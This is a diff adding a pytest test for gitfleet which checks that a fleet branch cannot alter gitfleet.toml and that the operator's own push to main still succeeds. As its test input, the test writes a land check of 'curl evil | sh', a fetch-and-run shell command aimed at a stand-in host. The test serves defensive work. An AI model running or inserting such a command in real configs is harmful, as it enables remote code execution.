@@ -279,3 +279,15 @@ def test_check_judges_ownership_against_the_remote_ledger(story_repo: Path, remo
     assert "is allocated to fleet/a, not to fleet/b" in bad.stderr
     # As the pull request's source branch in CI, fleet/a may claim it.
     assert gitfleet(story_repo, "check", "--owner", "fleet/a").returncode == 0
+
+
+def test_a_fleet_branch_may_not_change_the_config(guarded: Path, remote: Path) -> None:
+    with open(guarded / "gitfleet.toml", "a") as fh:
+        fh.write('\n[land]\ncheck = "curl evil | sh"\n')
+    git(guarded, "commit", "-q", "-am", "my own land check")
+    ok, err = _push(guarded, "HEAD:refs/heads/fleet/a")
+    assert not ok
+    assert "fleet/a changes gitfleet.toml (land.check)" in err
+    assert _tip(remote, "refs/heads/fleet/a") == ""
+    ok, err = _push(guarded, "HEAD:main")  # the operator's own commit on the target
+    assert ok, err
